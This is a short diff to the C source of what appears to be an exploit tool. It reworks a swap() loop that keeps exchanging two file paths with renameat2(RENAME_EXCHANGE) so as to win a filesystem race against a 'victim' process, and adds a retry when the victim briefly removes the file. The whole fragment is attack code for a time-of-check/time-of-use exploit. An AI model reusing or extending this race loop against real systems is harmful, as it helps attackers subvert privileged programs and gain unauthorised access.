@@ -108,10 +108,13 @@ static int attack_executables(const char *word)
 static int swap(const char *a, const char *b)
 {
 	long swaps = 0;
-	for (; !over; swaps++) {
-		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE))
+	while (!over) {
+		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)) {
+			if (swaps && errno == ENOENT) /* the victim is about to put something else in its place */
+				continue;
 			return perror("renameat2"), 1;
-		if (swaps == 0) {
+		}
+		if (swaps++ == 0) {
 			puts("ready");
 			fflush(stdout);
 		}
